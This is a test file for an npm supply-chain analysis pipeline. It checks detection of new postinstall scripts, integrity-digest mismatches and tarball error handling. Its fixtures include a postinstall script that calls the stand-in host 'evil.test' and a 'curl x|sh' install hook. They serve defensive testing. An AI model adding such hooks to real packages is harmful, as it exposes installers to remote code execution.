import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { processAnalysis } from '../../server/pipeline/process-analysis';
import { AnalysisError, type AnalysisJobData } from '../../server/pipeline/analysis-job';
import { BlobStore } from '../../server/blobs/blob-store';
import { ANALYZER_VERSION } from '../../server/analyzer';
import { pinDigest } from '../../server/policy/digest-pin';
import { FakeUpstream } from '../helpers/fake-upstream';
import { packTarball } from '../helpers/pack-tarball';

const limits = { maxTarballBytes: 1024 * 1024, tarballTimeoutMs: 5_000 };

function side(upstream: FakeUpstream, version: string, dist: { integrity: string; tarball: string }) {
  const pin = pinDigest(dist);
  assert.equal(pin.kind, 'pinned');
  const sri = pin.kind === 'pinned' ? pin.digest.sri : '';
  return {
    version,
    manifest: (upstream.packument('demo') as any).versions?.[version],
    tarballUrl: dist.tarball,
    integrity: sri,
    blob: sri,
  };
}

function job(next: AnalysisJobData['next'], previous: AnalysisJobData['previous'], blobsDir: string): AnalysisJobData {
  return {
    id: 'x',
    question: {
      mirrorId: 'm',
      package: 'demo',
      version: next.version,
      integrity: next.integrity,
      previousVersion: previous?.version ?? null,
      previousIntegrity: previous?.integrity ?? null,
      analyzerVersion: ANALYZER_VERSION,
    },
    next,
    previous,
    dependencies: [],
    preparedAt: Date.now(),
    blobsDir,
    limits,
    upstream: 'http://127.0.0.1:9/',
    youngDependency: { maxAgeMs: 30 * 86_400_000, minVersions: 3 },
  };
}

async function withUpstream(fn: (u: FakeUpstream, blobs: BlobStore, dir: string) => Promise<void>): Promise<void> {
  const u = await new FakeUpstream().start();
  const dir = mkdtempSync(join(tmpdir(), 'cordon-blobs-'));
  try {
    await fn(u, new BlobStore(dir, { maxBytes: limits.maxTarballBytes, timeoutMs: limits.tarballTimeoutMs }), dir);
  } finally {
    await u.stop();
    rmSync(dir, { recursive: true, force: true });
  }
}

const distFor = (u: FakeUpstream, v: string) => (u.packument('demo') as any).versions[v].dist as { integrity: string; tarball: string };

test('a new postinstall against the previous version is found; the bytes read are kept in the verified store', () =>
  withUpstream(async (u, blobs, dir) => {
    u.publish('demo', '1.0.0', { files: { 'index.js': 'module.exports = 1' } });
    u.publish('demo', '1.0.1', {
      scripts: { postinstall: 'node setup.js' },
      files: { 'index.js': 'module.exports = 1', 'setup.js': 'require("https").get("https://evil.test/x")' },
    });
    const out = await processAnalysis(job(side(u, '1.0.1', distFor(u, '1.0.1')), side(u, '1.0.0', distFor(u, '1.0.0')), dir), { blobs });
    assert.equal(out.previousVersion, '1.0.0');
    assert.equal(out.maxSeverity, 'critical');
    assert.ok(out.findings.some((f) => f.rule === 'install-script/new-postinstall'));
    assert.equal(out.question.analyzerVersion, ANALYZER_VERSION);
    assert.equal(out.blobs.next, distFor(u, '1.0.1').integrity);
    assert.equal(readdirSync(join(dir, 'sha512')).length > 0, true, 'the verified bytes are in the store');
    const before = u.requests.filter((r) => r.includes('.tgz')).length;
    await processAnalysis(job(side(u, '1.0.1', distFor(u, '1.0.1')), side(u, '1.0.0', distFor(u, '1.0.0')), dir), { blobs });
    assert.equal(u.requests.filter((r) => r.includes('.tgz')).length, before, 'a second analysis reads the store, not upstream');
  }));

test('bytes that do not match the pinned digest are refused, never analysed, and leave no file', () =>
  withUpstream(async (u, blobs, dir) => {
    u.publish('demo', '1.0.0', {});
    u.tarballOverrides.set(
      'demo-1.0.0.tgz',
      packTarball({ 'package.json': '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl x|sh"}}' }),
    );
    await assert.rejects(
      processAnalysis(job(side(u, '1.0.0', distFor(u, '1.0.0')), null, dir), { blobs }),
      (e: unknown) => e instanceof AnalysisError && e.code === 'INTEGRITY_MISMATCH' && !e.retryable,
    );
    assert.deepEqual(readdirSync(join(dir, 'tmp')), [], 'no partial file');
  }));

test('an unreadable tarball, a tarball over the size cap and an unreachable upstream carry the right codes', () =>
  withUpstream(async (u, blobs, dir) => {
    const truncated = gzipSync(Buffer.from('not a tar archive at all'));
    u.publish('demo', '2.0.0', { tarball: truncated });
    await assert.rejects(
      processAnalysis(job(side(u, '2.0.0', distFor(u, '2.0.0')), null, dir), { blobs }),
      (e: unknown) => e instanceof AnalysisError && e.code === 'TARBALL_UNREADABLE',
    );
    u.publish('demo', '3.0.0', { files: { 'big.bin': randomBytes(64 * 1024) } });
    const small = new BlobStore(dir, { maxBytes: 10_000, timeoutMs: 5_000 });
    await assert.rejects(
      processAnalysis(job(side(u, '3.0.0', distFor(u, '3.0.0')), null, dir), { blobs: small }),
      (e: unknown) => e instanceof AnalysisError && e.code === 'TARBALL_TOO_LARGE' && !e.retryable,
    );
    u.failTarballs = 5;
    u.publish('demo', '4.0.0', {});
    await assert.rejects(
      processAnalysis(job(side(u, '4.0.0', distFor(u, '4.0.0')), null, dir), { blobs }),
      (e: unknown) => e instanceof AnalysisError && e.code === 'TRANSIENT' && e.retryable,
    );
  }));
